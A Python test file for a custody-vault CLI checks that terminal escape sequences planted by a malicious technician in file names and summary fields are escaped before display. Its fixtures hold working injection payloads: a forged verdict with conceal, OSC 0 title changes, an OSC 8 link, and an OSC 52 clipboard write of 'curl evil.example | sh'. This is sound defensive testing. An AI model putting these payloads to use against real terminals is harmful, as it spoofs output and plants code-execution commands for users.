"""The technician as adversary against the DSL's terminal (red-team finding H3).

A technician holds the custody key and the vault group's write access. That
is enough to name a file in ``case/`` or ``custody/`` anything at all, and to
save a custody summary of their choosing with their own key (a legitimate,
audited save). The review used both to clear the DSL's screen and show a
forged "Vault intact" over the real verdict (SGR 8, conceal), retitle the
window (OSC 0) and put ``curl evil.example | sh`` in the clipboard (OSC 52).

Here the DSL runs ``verify``, ``incident list`` and ``device list`` through the
CLI's own entry point, and every byte either stream receives is checked: no
control (but newline), format or separator character; the real verdict is
the one shown; a summary field of the wrong shape shows as "<invalid value>".
"""

from __future__ import annotations

import base64
import json
import os
import unicodedata
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.support.adversary import DSL, TECH, World
from ydsi_tui.cli.main import main
from ydsi_tui.model.summary import INVALID_VALUE
from ydsi_tui.service.records import write_summary
from ydsi_tui.vault.recordfile import RECORD_SUFFIX

CLIPBOARD = base64.b64encode(b"curl evil.example | sh").decode("ascii")
FAKE_VERDICT = "Vault intact: 24 audit entries and 6 records checked"

#: File names the review planted, and a few more of the same family.
PLANTED = {
    "case": [
        f"\x1bc\x1b[2J\x1b[H{FAKE_VERDICT}\x1b[8m",  # reset, clear, forged verdict, conceal
        f"\x1b]52;c;{CLIPBOARD}\x07",  # OSC 52: the clipboard
        f"\n{FAKE_VERDICT}\n",  # a forged line of its own
        "\x9b2J\u2028\u200b\u061c\u202e",  # C1 CSI, line separator, zero-width, bidi
    ],
    "custody": [
        "\x1b]0;PWNED\x07\x1b[8m",  # OSC 0: the window title, then conceal
        "\x1b]8;;https:evil.example\x1b\\click\x1b]8;;\x1b\\",  # OSC 8 hyperlink
    ],
}

#: The custody summary a technician saves with their own key.
HOSTILE_SUMMARY = {
    "v": 1,
    "ref": "D-2026-001\x1b]0;OWNED-TITLE\x07",
    "incident_ref": "2026-001\x1b[2J",
    "status": f"seized\x1b]52;c;{CLIPBOARD}\x07\x1b[8m",
    "description": "Phone\x1b[8m\u2028\ufeff",
    "location": "Safe\u202egnp.exe\x9d0;x\x9c",
    "seized_at": "2026-01-01T09:00:00Z",
    "due": [{"code": "x\x1b[2J", "text": "Overdue\x1bc\x07", "due_at": "2026-01-01T10:00:00Z"}],
}


def raw_characters(text: str) -> list[str]:
    """Every character in `text` a terminal or viewer might act on (a newline apart)."""
    return [
        f"U+{ord(ch):04X}"
        for ch in text
        if ch != "\n" and unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp", "Cs", "Cn")
    ]


def passphrase_file(tmp_path: Path) -> Path:
    path = tmp_path / "dsl.pass"
    path.write_text(DSL.passphrase + "\n", encoding="utf-8")
    path.chmod(0o600)
    return path


def run_as_dsl(
    world: World, capsys: pytest.CaptureFixture[str], secret: Path, *command: str
) -> tuple[int, str, str]:
    """``ydsi COMMAND`` as the DSL, in-process through the CLI's entry point."""
    args = [*command, "--vault", str(world.path), "--user", DSL.login]
    if command[0] != "verify" or "--entries" in command:
        args += ["--passphrase-file", str(secret)]
    code = main(args)
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def plant(world: World, compartment: str, name: str) -> Path:
    """An empty file of that name, as any member of the vault's group can make one."""
    path = world.path / compartment / f"{name}{RECORD_SUFFIX}"
    path.touch()
    return path


def save_hostile_summary(world: World, summary: dict[str, object]) -> None:
    """The technician saves the device's record with a summary of their own, with their key."""
    tech = world.unlock(TECH)
    with tech.transaction("custody", world.device) as db:
        write_summary(db, summary, "device")


def test_planted_file_names_reach_no_terminal_raw(
    world: World, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    for compartment, names in PLANTED.items():
        for name in names:
            plant(world, compartment, name)
    secret = passphrase_file(tmp_path)

    # --entries: the DSL's check of case files too (their audit entries are sealed).
    code, out, err = run_as_dsl(world, capsys, secret, "verify", "--entries")
    assert raw_characters(out + err) == []
    assert code == 1
    verdicts = [line for line in out.splitlines() if line.startswith("Vault ")]
    assert len(verdicts) == 1 and verdicts[0].startswith("Vault NOT intact"), out
    assert "\\x1b]52;c;" in out  # shown, as text, not obeyed
    assert "\\x1b]0;PWNED\\x07" in out
    assert "\\x0aVault intact" in out  # the forged line stays inside its problem line

    for command in (["incident", "list"], ["device", "list"]):
        code, out, err = run_as_dsl(world, capsys, secret, *command)
        assert raw_characters(out + err) == [], command
        assert not any(line.startswith("Vault intact") for line in out.splitlines())
        assert "damaged" in out or "DAMAGED" in out, (command, out)


def test_a_custody_summary_saved_by_a_technician_is_checked_and_escaped(
    world: World, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    save_hostile_summary(world, HOSTILE_SUMMARY)
    secret = passphrase_file(tmp_path)

    code, out, err = run_as_dsl(world, capsys, secret, "device", "list")
    assert code == 0, err
    assert raw_characters(out + err) == []
    row = next(line for line in out.splitlines() if "Phone" in line)
    # ref, incident and status are not of their shape: not printed at all.
    assert row.startswith(f"{INVALID_VALUE}  {INVALID_VALUE}  {INVALID_VALUE}"), row
    assert row.count(INVALID_VALUE) == 4, row  # and the overdue flag's code
    assert "OWNED-TITLE" not in out and "52;c;" not in out
    assert "Phone\\x1b[8m\\u2028\\ufeff" in row  # free text: shown, escaped
    assert "\\u202e" in row

    code, out, err = run_as_dsl(world, capsys, secret, "device", "list", "--json")
    assert code == 0, err
    assert out.isascii() and raw_characters(out) == []
    (listed,) = json.loads(out)
    assert listed["ref"] == listed["incident_ref"] == listed["status"] == INVALID_VALUE
    assert listed["description"] == HOSTILE_SUMMARY["description"]  # data, decoded intact


def test_an_error_quoting_a_file_name_is_escaped(
    world: World, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    bad = tmp_path / f"pass\x1b]0;PWNED\x07{CLIPBOARD}"
    bad.write_text("x\n", encoding="utf-8")
    bad.chmod(0o644)  # readable by others: refused, and the message names the file
    code = main(["incident", "list", "--vault", str(world.path), "--user", DSL.login,
                 "--passphrase-file", str(bad)])  # fmt: skip
    captured = capsys.readouterr()
    assert code != 0
    assert raw_characters(captured.out + captured.err) == []
    assert "internal error" not in captured.err


# ----------------------------------------------------------------------
# whatever the technician writes, nothing reaches the terminal raw
# ----------------------------------------------------------------------
_NAME_BYTES = st.binary(min_size=1, max_size=40).filter(
    lambda b: b"/" not in b and b"\0" not in b and not b.startswith(b".")
)


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(name=_NAME_BYTES, text=st.text(max_size=60))
def test_no_byte_a_technician_writes_reaches_stdout_raw(
    world: World,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    name: bytes,
    text: str,
) -> None:
    secret = passphrase_file(tmp_path)
    planted = [
        world.path / compartment / os.fsdecode(name + RECORD_SUFFIX.encode())
        for compartment in ("case", "custody")
    ]
    for path in planted:
        path.touch()
    save_hostile_summary(
        world,
        {**HOSTILE_SUMMARY, "ref": text, "status": text, "description": text, "location": text},
    )
    try:
        for command in (["verify"], ["incident", "list"], ["device", "list"]):
            _code, out, err = run_as_dsl(world, capsys, secret, *command)
            assert raw_characters(out + err) == [], (command, name, text)
            assert "internal error" not in err
    finally:
        for path in planted:
            path.unlink()
